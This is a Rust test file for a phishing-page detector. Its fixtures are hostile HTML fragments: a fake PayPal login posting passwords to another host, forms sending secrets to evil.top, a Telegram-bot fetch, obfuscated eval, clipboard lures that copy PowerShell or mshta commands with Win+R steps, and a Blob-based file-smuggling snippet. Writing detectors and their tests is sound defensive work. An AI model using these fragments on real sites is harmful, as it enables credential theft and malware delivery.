//! What is found on pages.

use super::*;
use proptest::prelude::*;

fn kinds(url: &str, html: &str) -> Vec<FindingKind> {
    let context = PageContext { url: Some(url), redirects: &[] };
    let judged = judge(html.as_bytes(), &context, &PageLimits::default());
    judged.findings.iter().map(|finding| finding.kind).collect()
}

const LOGIN: &str = "<title>PayPal: Log in</title><h1>PayPal</h1>\
    <form action='https://collect.example.org/next.php'><input name=email>\
    <input type=password name=pw></form><img src='https://www.paypalobjects.com/l.svg' alt=PayPal>";

#[test]
fn a_login_page_that_is_not_the_brands() {
    let context = PageContext { url: Some("http://secure.example.net/"), redirects: &[] };
    let judged = judge(LOGIN.as_bytes(), &context, &PageLimits::default());
    assert!(judged.is_malicious(), "{judged:?}");
    let said: Vec<String> = judged.findings.iter().map(ToString::to_string).collect();
    let said = said.join("; ");
    assert!(said.contains("sends a password or card number to example.org"), "{said}");
    assert!(said.contains("the title names `paypal`"), "{said}");
    assert!(judged.findings.windows(2).all(|two| two[0].weight() >= two[1].weight()));
}

#[test]
fn the_same_page_at_home_is_fine() {
    let own = LOGIN.replace("https://collect.example.org/next.php", "/signin");
    assert_eq!(kinds("https://www.paypal.com/signin", &own), []);
}

/// What is found on a page of which nobody says where it was.
fn anywhere(html: &str) -> PageJudgement {
    judge(html.as_bytes(), &PageContext::default(), &PageLimits::default())
}

#[test]
fn a_page_that_contradicts_itself() {
    let judged = anywhere(LOGIN);
    assert!(judged.is_malicious(), "{judged:?}");
    let said: Vec<String> = judged.findings.iter().map(ToString::to_string).collect();
    let names = "it names `paypal`, and sends a secret to example.org";
    assert_eq!(said, [names, "images or styles of `paypal`'s own site"]);
    let bare = LOGIN.replace("https://www.paypalobjects.com", "");
    assert!(!anywhere(&bare).is_malicious());
    assert_eq!(anywhere(&bare).findings[0].kind, FindingKind::BrandContradicted);
    for own in ["/next.php", "https://www.paypal.com/signin", "next.php", ""] {
        let page = LOGIN.replace("https://collect.example.org/next.php", own);
        assert_eq!(anywhere(&page).findings, [], "{own}");
    }
    for page in [
        LOGIN.replace("PayPal: Log in", "PayPal or Netflix: Log in"),
        LOGIN.replace("PayPal: Log in", "My shop").replace("<h1>PayPal</h1>", ""),
        LOGIN.replace("type=password", "type=text"),
        format!("<base href=https://shop.example.org/>{LOGIN}"),
    ] {
        assert_eq!(anywhere(&page).findings, [], "{page}");
    }
    let based = format!("<base href=https://www.paypal.com/>{LOGIN}");
    assert!(anywhere(&based).is_malicious());
}

#[test]
fn brands_in_letters_of_other_scripts() {
    let page = |title: &str, heading: &str| {
        format!("<title>{title}</title><h1>{heading}</h1><form><input type=password></form>")
    };
    let at = "https://example.com/";
    let both = [FindingKind::BrandInTitle, FindingKind::BrandDisguised];
    for title in ["P&#1072;yPal", "P\u{430}yPal: Log in", "\u{262}oogle"] {
        assert_eq!(kinds(at, &page(title, "Welcome")), both, "{title}");
    }
    let judged = anywhere(&page("P\u{430}yPal", ""));
    let said = judged.findings[0].to_string();
    assert_eq!(said, "it writes `paypal` in letters that only look like it");
    // A slip of the keyboard in a Russian text.
    let slip = "\u{410}pple \u{432} \u{41c}\u{43e}\u{441}\u{43a}\u{432}\u{435}";
    assert_eq!(kinds(at, &page(slip, "")), [FindingKind::BrandInTitle]);
    assert_eq!(kinds("https://www.paypal.com/", &page("P\u{430}yPal", "")), []);
    for heading in
        ["Pay<span>Pal</span>", "<b>P</b>ayPal", "<a>PayPal</a><a>Log in</a>", "Pay&shy;Pal<br>x"]
    {
        assert_eq!(kinds(at, &page("", heading)), [FindingKind::BrandInHeading], "{heading}");
    }
    assert_eq!(kinds(at, &page("", "Pay<br>Pal")), []);
}

#[test]
fn programs_of_a_brand_that_are_run_at_home() {
    let page = |brand: &str, action: &str| {
        format!(
            "<title>{brand}</title><img src=/owa/logo.png alt={brand}>\
             <form action='{action}' method=post><input type=password></form>"
        )
    };
    for (url, brand, action) in [
        ("https://mail.firma-mueller.de/owa/", "Outlook", "/owa/auth.owa"),
        ("https://mail.firma-mueller.de/owa/auth/logon.aspx?url=x", "Outlook", "../auth.owa"),
        ("https://mail.firma-mueller.de/OWA/", "Microsoft", ""),
        ("https://sts.firma-mueller.de/adfs/ls/", "Microsoft", "/adfs/ls/?wa=wsignin1.0"),
        ("http://192.168.2.1/", "Telekom", "/login.php"),
        ("http://[fe80::1]/", "Vodafone", ""),
        ("https://team.firma-mueller.de/_layouts/15/a.aspx", "SharePoint", "/_layouts/15/a.aspx"),
    ] {
        let page = page(brand, action);
        assert_eq!(kinds(url, &page), [FindingKind::BrandMentioned], "{url}");
    }
    let claimed = [FindingKind::BrandInTitle, FindingKind::BrandInLogo];
    for (url, brand, action) in [
        ("https://mail.firma-mueller.de/owa/", "Outlook", "/owa/post.php"),
        ("https://mail.firma-mueller.de/owa/", "Outlook", "/post"),
        ("https://mail.firma-mueller.de/login/", "Outlook", ""),
        ("https://mail.firma-mueller.de/owa/", "PayPal", ""),
        ("https://firma-mueller.github.io/owa/", "Outlook", ""),
        ("https://outlook-mueller.de/owa/", "Outlook", ""),
        ("http://101.2.3.4/", "Telekom", ""),
    ] {
        assert_eq!(kinds(url, &page(brand, action)), claimed, "{url} {brand} {action}");
    }
    let elsewhere = page("Outlook", "https://example.org/owa/auth.owa");
    assert!(kinds("https://mail.firma-mueller.de/owa/", &elsewhere).len() > 2);
}

#[test]
fn articles_that_compare_brands() {
    let article = LOGIN
        .replace("PayPal: Log in", "PayPal vs Stripe | My blog")
        .replace("https://collect.example.org/next.php", "/login");
    assert_eq!(kinds("https://blog.example/paypal", &article), [FindingKind::BrandMentioned]);
    let elsewhere = article.replace("/login", "https://example.org/");
    assert!(kinds("https://blog.example/paypal", &elsewhere).len() > 2);
}

#[test]
fn each_finding_alone() {
    let at = "https://example.com/";
    let password = "<form><input type=password></form>";
    for (html, kind) in [
        ("<form action=mailto:x@example.org><input type=password>", FindingKind::SecretsMailed),
        ("<form action=//example.org/s><input name=q></form>", FindingKind::FormElsewhere),
        ("<form><input type=password><input name=cvv></form>", FindingKind::PasswordAndCard),
        ("<script>eval(unescape('%61'))</script>", FindingKind::Obfuscated),
        ("<script>fetch('https://api.telegram.org/bot1/')</script>", FindingKind::Kit),
        ("<form name=chalbhai></form>", FindingKind::Kit),
        (
            "<meta http-equiv=refresh content='0; url=https://example.org/'>",
            FindingKind::RefreshElsewhere,
        ),
        ("<iframe src='data:text/html,x'></iframe>", FindingKind::DataFrame),
        ("<!-- saved from url=(0020)https://example.org/ -->", FindingKind::Copied),
    ] {
        assert_eq!(kinds(at, html), [kind], "{html}");
    }
    let dead = format!("{password}{}", "<a href='#'>x</a>".repeat(6));
    assert_eq!(kinds(at, &dead), [FindingKind::DeadLinks]);
    let menu = format!("<body oncontextmenu='return false'>{password}");
    assert_eq!(kinds(at, &menu), [FindingKind::MenuBlocked]);
    let escapes = format!("<script>x='{}'</script>", "\\x41".repeat(200));
    assert_eq!(kinds(at, &escapes), [FindingKind::Obfuscated]);
}

#[test]
fn where_a_form_really_posts() {
    let field = "<input type=password>";
    for form in [
        format!("<base href=https://example.org/><form action=post.php>{field}</form>"),
        format!(
            "<form action=/a>{field}<button formaction=https://example.org/x>go</button></form>"
        ),
        format!("<form>{field}<input type=submit formaction=//example.org/x></form>"),
        format!("<form action='/\\example.org/a'>{field}</form>"),
        format!("<form action='https:\\\\example.org/a'>{field}</form>"),
        format!("<form action='http:example.org/a'>{field}</form>"),
        format!("<form action=' ht\ntps://example.org/a'>{field}</form>"),
        "<form id=f action=https://example.org/a></form><input type=password form=f>".to_owned(),
    ] {
        let kinds = kinds("https://example.com/", &form);
        assert_eq!(kinds, [FindingKind::SecretsPosted], "{form}");
    }
    for form in [
        format!("<base href=/login/><form action=post.php>{field}</form>"),
        format!("<form action='https:example.org/a'>{field}</form>"),
        format!("<form>{field}<input type=image src=https://example.org/go.png></form>"),
    ] {
        assert_eq!(kinds("https://example.com/", &form), [], "{form}");
    }
}

#[test]
fn what_is_no_base_hides_nothing() {
    let form = "<form action=https://evil.top/><input type=password></form>";
    for base in ["'http://['", "'https://a b/'", "'data:,x'", "'javascript:1'", "''", "mailto:a@b"]
    {
        let page = format!("<base href={base}>{form}");
        assert_eq!(kinds("https://example.com/", &page), [FindingKind::SecretsPosted], "{base}");
        let refresh = "<meta http-equiv=refresh content='0; url=//evil.top/'>";
        let page = format!("<base href={base}>{refresh}");
        assert_eq!(kinds("https://example.com/", &page), [FindingKind::RefreshElsewhere], "{base}");
    }
    let second = "<base href=''><base href=https://evil.top/><form action=a><input name=q></form>";
    assert_eq!(kinds("https://example.com/", second), []);
    assert_eq!(kinds("shop.example.net:8080/login", form), [FindingKind::SecretsPosted]);
    let own = "<form action=//shop.example.net:8080/a><input type=password></form>";
    assert_eq!(kinds("shop.example.net:8080/login", own), []);
}

#[test]
fn other_attributes_hide_no_target() {
    let field = "<input type=password>";
    for form in [
        format!("<form src=x action='https://evil.top'>{field}</form>"),
        format!("<form data=/ href=/ formaction=/ action='https://evil.top'>{field}</form>"),
        format!("<form action='https://evil.top' action=/>{field}</form>"),
        format!("<base src=/x href=https://evil.top/><form action=a>{field}</form>"),
        format!("<form>{field}<button action=/ formaction=//evil.top>go</button></form>"),
        format!("<form action='{}https://evil.top/'>{field}</form>", " ".repeat(5000)),
    ] {
        let kinds = kinds("https://example.com/", &form);
        assert_eq!(kinds, [FindingKind::SecretsPosted], "{form}");
    }
    for form in [
        format!("<form action=/ action='https://evil.top'>{field}</form>"),
        format!("<form action='' action='https://evil.top'>{field}</form>"),
    ] {
        assert_eq!(kinds("https://example.com/", &form), [], "{form}");
    }
}

#[test]
fn a_page_is_at_home_however_its_host_is_written() {
    let form = "<form action=/c.php><input type=password></form>";
    let copy = "<!-- saved from url=(0020)https://www.xn--bcher-kva.example/ -->";
    for url in ["http://3627734734/login", "http://bücher.example/login", "http://a%2eexample/"] {
        assert_eq!(kinds(url, form), [], "{url}");
    }
    assert_eq!(kinds("http://bücher.example/login", copy), []);
    let named = "<form><input type=password></form><img src=google.png><img src=/apple.svg>";
    assert_eq!(kinds("https://example.com/", named), []);
}

#[test]
fn pages_in_wide_letters() {
    let context = PageContext { url: Some("https://example.com/"), redirects: &[] };
    for (mark, bytes) in
        [([0xff, 0xfe], u16::to_le_bytes as fn(u16) -> [u8; 2]), ([0xfe, 0xff], u16::to_be_bytes)]
    {
        let wide: Vec<u8> = mark.into_iter().chain(LOGIN.encode_utf16().flat_map(bytes)).collect();
        assert!(judge(&wide, &context, &PageLimits::default()).is_malicious());
    }
}

#[test]
fn brands_of_several_words() {
    let page = |name: &str| {
        let field = "<form><input type=password></form>";
        format!("<title>{name}</title><h1>{name}</h1><img alt='{name}'>{field}")
    };
    let all = [FindingKind::BrandInTitle, FindingKind::BrandInLogo, FindingKind::BrandInHeading];
    assert_eq!(kinds("https://example.com/", &page("Wells Fargo")), all);
    assert_eq!(kinds("https://www.wellsfargo.com/", &page("Wells Fargo")), []);
    assert_eq!(kinds("https://www.berliner-sparkasse.de/", &page("Berliner Sparkasse")), []);
    assert_eq!(kinds("https://sparkasse-login.de/", &page("Berliner Sparkasse")), all);
    assert_eq!(kinds("https://idmsa.apple.com/", &page("iCloud")), []);
    let fonts = "<link href='https://fonts.googleapis.com/css'><form><input type=password></form>";
    assert_eq!(kinds("https://example.com/", fonts), []);
}

#[test]
fn pages_that_ask_for_a_recovery_phrase() {
    let words = "<input type=text>".repeat(12);
    let numbered: String = (1..25).map(|n| format!("<input type=password id=w{n}>")).collect();
    for html in [
        "<label>Secret Recovery Phrase</label><textarea></textarea>".to_owned(),
        "<form><textarea name=x placeholder='Enter your seed phrase'></textarea></form>".to_owned(),
        "<input name=recovery_phrase>".to_owned(),
        "<p>Paste your <b>seed phrase</b> to restore the wallet.</p><div><textarea></textarea>"
            .into(),
        format!("<p>Your 12-word recovery phrase</p>{words}"),
        format!("<p>Restore your wallet</p>{words}"),
        format!("<h1>Seed phrase</h1>{}<form>{numbered}</form>", "<p>Words. </p>".repeat(100)),
    ] {
        assert_eq!(kinds("https://example.com/", &html), [FindingKind::RecoveryPhrase], "{html}");
        assert_eq!(kinds("https://metamask.io/", &html), [], "{html}");
    }
    let article = "<h1>What is a seed phrase?</h1><p>A recovery phrase restores a wallet.</p>";
    for html in [
        format!("{article}<textarea name=comment></textarea>"),
        format!("{article}<h3>Leave a comment</h3><textarea></textarea>"),
        format!("<input name=q placeholder=Search>{article}<input type=email>"),
        format!("{article}<p>Never enter it on a site.</p><input name=code>"),
        format!("{article}{}<textarea></textarea>", "<p>Much more to read. </p>".repeat(30)),
        format!("<p>Make a crossword</p>{words}"),
    ] {
        assert_eq!(kinds("https://example.com/", &html), [], "{html}");
    }
}

#[test]
fn pages_that_have_a_command_pasted() {
    let copies = "<script>navigator.clipboard.writeText(c)</script>";
    let powershell = "<script>c='powershell -w h'; document.execCommand('copy')</script>";
    let steps = "<p>Press <b>Windows Key</b> + <b>R</b></p><p>Press <kbd>CTRL</kbd> + <kbd>V</kbd>";
    for html in [
        format!("<p>Verify you are human</p>{steps}{copies}"),
        format!("{steps}{powershell}"),
        format!("<p>Open Terminal and press \u{2318}+V{powershell}"),
        format!("<script>x.innerHTML='I am not a robot: Win+R, <b>Ctrl</b>+V'</script>{copies}"),
        format!("<p onclick=\"navigator.clipboard.writeText('mshta x')\">{steps}"),
    ] {
        assert_eq!(kinds("https://example.com/", &html), [FindingKind::PastedCommand], "{html}");
    }
    for html in [
        format!("<p>Open PowerShell and paste the command with Ctrl+V</p>{copies}"),
        format!("{steps}<p>Type winver</p><pre>powershell -c ls</pre>{copies}"),
        format!("<p>Are you human? reCAPTCHA</p><p>WinRAR: Ctrl+V</p>{copies}"),
        format!("<p>Verify you are human</p>{steps}"),
    ] {
        assert_eq!(kinds("https://example.com/", &html), [], "{html}");
    }
}

#[test]
fn pages_that_smuggle_a_file() {
    let packed = "QUJD".repeat(100_000);
    let made = format!("b=atob('{packed}');u=URL.createObjectURL(new Blob([b]));");
    for html in [
        format!("<script>{made}a.href=u;a.click()</script>"),
        format!("<a id=a download=x.zip></a><script>{made}a.href=u</script>"),
        format!(
            "<script>{}</script>",
            made.replace("URL.createObjectURL", "navigator.msSaveOrOpenBlob")
        ) + "<a download>",
    ] {
        assert_eq!(kinds("https://example.com/", &html), [FindingKind::SmuggledFile]);
    }
    for html in [
        format!("<script>{made}image.src=u</script>"),
        "<script>a.href=URL.createObjectURL(new Blob([csv]));a.download='x.csv';a.click()</script>"
            .to_owned(),
    ] {
        assert_eq!(kinds("https://example.com/", &html), []);
    }
}

#[test]
fn programs_that_anybody_runs_are_at_home_anywhere() {
    let field = "<form action=/login method=post><input type=password></form>";
    for title in [
        "Log In \u{2039} My Garden Blog \u{2014} WordPress",
        "Sign in \u{b7} GitLab",
        "Roundcube Webmail :: Welcome",
        "Member login - Booking portal of Hotel Adler",
        "Visa application",
    ] {
        let page = format!("<title>{title}</title><h1>{title}</h1>{field}");
        assert_eq!(kinds("https://garden.example/", &page), [], "{title}");
    }
}

#[test]
fn no_finding_alone_makes_a_page_malicious() {
    for kind in [
        FindingKind::SecretsPosted,
        FindingKind::Kit,
        FindingKind::CopiedLogin,
        FindingKind::BrandContradicted,
        FindingKind::BrandDisguised,
    ] {
        assert!(Finding::new(kind, String::new()).weight() < 0.5);
    }
}

#[test]
fn ordinary_pages_have_no_findings() {
    let page = "<!doctype html><title>News about Google and Apple</title><h1>News</h1>\
        <a href=/a>a</a><a href=/b>b</a><script src=/app.js></script>\
        <form action=/search><input name=q></form><p>Log in to eval your account</p>";
    assert_eq!(kinds("https://news.example.com/", page), []);
}

#[test]
fn chains_of_redirects() {
    let hops = ["https://a.example/", "https://b.example/", "https://c.example/"];
    let context = PageContext { url: Some("https://d.example/"), redirects: &hops };
    let judged = judge(b"", &context, &PageLimits::default());
    assert_eq!(judged.findings[0].to_string(), "redirects across 3 sites");
    let hops = ["https://www.example.com/url?q=https://example.net/"];
    let context = PageContext { url: Some("https://example.net/"), redirects: &hops };
    let judged = judge(b"", &context, &PageLimits::default());
    assert_eq!(judged.findings[0].kind, FindingKind::OpenRedirect);
}

#[test]
fn large_pages_are_read_up_to_a_limit() {
    let limits = PageLimits { bytes_max: 100, ..PageLimits::default() };
    let form = "<form name=chalbhai>";
    for (front, end, found) in [(0, 200, 1), (200, 0, 1), (100, 100, 0)] {
        let html = format!("{}{form}{}", " ".repeat(front), " ".repeat(end));
        let judged = judge(html.as_bytes(), &PageContext::default(), &limits);
        assert_eq!(judged.findings.len(), found, "{front} {end}");
    }
    let many = "<form action=//example.org><input type=password>".repeat(10_000);
    let context = PageContext { url: Some("https://example.com/"), redirects: &[] };
    let judged = judge(many.as_bytes(), &context, &PageLimits::default());
    assert_eq!(judged.findings.len(), 1, "one finding is said once");
}

proptest! {
    #[test]
    fn any_bytes_are_judged(bytes in proptest::collection::vec(any::<u8>(), 0..400)) {
        fuzz_page(&bytes);
    }

    #[test]
    fn any_tags_are_judged(html in "(<[a-z]{1,6}( [a-z]{1,6}=[a-z:/#]{0,9}){0,3}>|[!<>/\"'-]|x){0,40}") {
        fuzz_page(html.as_bytes());
    }
}
